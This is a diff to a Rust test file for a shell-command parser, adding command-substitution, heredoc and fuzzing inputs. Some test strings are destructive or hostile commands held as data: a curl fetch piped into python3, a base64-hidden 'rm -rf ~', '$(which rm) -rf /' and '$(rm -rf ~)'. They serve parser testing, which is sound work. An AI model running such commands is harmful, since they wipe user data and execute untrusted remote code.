@@ -240,6 +240,9 @@ fn budgets_hold() {
         "a <<\x0b x",
         "go test 25555555555555>&1 | tail",
         "a 3000000000>f",
+        // brush-parser 0.4 runs out of memory on these (a differential test found them).
+        "$(<<E$(  ",
+        "cargo. <> ü & %s{} >> )\"\n)\" a=b & \"$(cat <<'E'$( <> [ab]-e ",
     ] {
         assert!(!v(s).opaque.is_empty(), "{s:?}");
     }
@@ -325,6 +328,27 @@ fn the_plain_reader_sees_what_brush_sees() {
         "echo a\r",
         "su root -c 'x& ~22222222222222222222e/a y'",
         "echo 'a:~22222222222222222222' b=~33333333333333333333",
+        // Command substitutions the plain reader reads with a nested reader.
+        "git add -A && git commit -m \"$(cat <<'EOF'\nFix the parser\n\nCo-Authored-By: Claude <noreply@anthropic.com>\nEOF\n)\"",
+        "python3 -c \"$(curl -fsSL https://x.sh)\"",
+        "bash -c \"$(echo cm0gLXJmIH4= | base64 -d)\" && sh -c \"$(echo ls)\"",
+        "X=$(rm -rf ~) Y=\"$(id)\" ls $(pwd) \"a $(date) b\"",
+        "$(which rm) -rf / ; \"$(echo sudo)\" id",
+        "echo $(echo $(echo $(echo $(echo $(echo deep)))))",
+        "echo a$(b)*c x$(y){1,2} \"$(z)\"*",
+        "echo $() \"$()\" $( ) $(\n)",
+        "echo $(ls; pwd && id | wc -l\n) next",
+        "echo $(a # comment )\n) done",
+        "echo $(cat <<EOF\nbody\nEOF\n) done",
+        "echo \"$(cat <<'EOF'\nx\n)\nEOF\n)\"",
+        "cat <<EOF $(x)\nbody\nEOF",
+        "echo $((1+2)) $( (ls) ) $(ls",
+        "echo $(ls |) $(&& x)",
+        "echo $(ls)>f; >$(f) ls; cat <<<$(x)",
+        "echo $(if true; then ls; fi)",
+        "cd /tmp && echo $(cd / && pwd) && rm -rf x",
+        "echo \"$(echo \"inner \\\"q\\\" $(id)\")\"",
+        "echo $(echo ')') $(echo \")\")",
     ];
     let mut plain = 0;
     for s in scripts {
@@ -419,6 +443,14 @@ fn the_plain_reader_agrees_on_generated_scripts() {
         "curl",
         "http://x",
         "\t",
+        "$(",
+        "\"$(",
+        ")\"",
+        "$(rm -rf ~)",
+        "\"$(cat <<'E'",
+        "$(cat <<E",
+        "E",
+        "$()",
     ]);
     let word = prop::collection::vec(plain_word, 1..3).prop_map(|p| p.concat());
     let op = prop::sample::select(vec![
@@ -449,6 +481,9 @@ fn the_plain_reader_agrees_on_generated_scripts() {
         " <<'EOF'\n$x y\nEOF\n",
         " <<-E\n\tb\n\tE\n",
         " # c\n",
+        "\n)\" ",
+        "\n) ",
+        ") ",
     ]);
     let script = prop::collection::vec((word, op), 1..8).prop_map(|parts| {
         let mut s = String::new();
